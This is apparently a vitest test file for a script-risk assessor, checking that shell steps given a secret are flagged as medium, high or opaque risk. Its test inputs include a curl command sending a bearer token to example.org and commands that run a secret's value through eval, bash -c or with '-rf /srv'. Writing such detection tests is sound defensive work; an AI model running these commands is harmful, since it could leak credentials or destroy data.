import { describe, expect, test } from 'vitest'
import { assessScript } from './assess-script.ts'

const assess = (script: string, secrets: string[]) =>
  assessScript(script, { environment: { PATH: '/usr/bin:/bin' }, user: 'root', secrets })

describe('a step that is given a secret', () => {
  test.each([
    ['df -h', 'medium', 'secret.given'],
    ['curl https://example.org/', 'high', 'exfiltration.given'],
    ['curl -H "Authorization: Bearer $TOKEN" https://example.org/', 'high', 'exfiltration.given'],
  ])('%s: %s', (script, risk, rule) => {
    const { risk: found, findings } = assess(script, ['TOKEN'])
    expect(found).toBe(risk)
    expect(findings.map((finding) => finding.rule)).toContain(rule)
    expect(assess(script, []).findings.map((finding) => finding.rule)).not.toContain(rule)
  })

  // Without the secret the variable is certainly empty; with it, it may be anything.
  test.each(['$TOKEN -rf /srv', 'eval "$TOKEN"', 'bash -c "$TOKEN"'])(
    'ML-17: its value is read as anything: %s',
    (script) => {
      expect(assess(script, ['TOKEN']).risk).toBe('opaque')
    },
  )
})
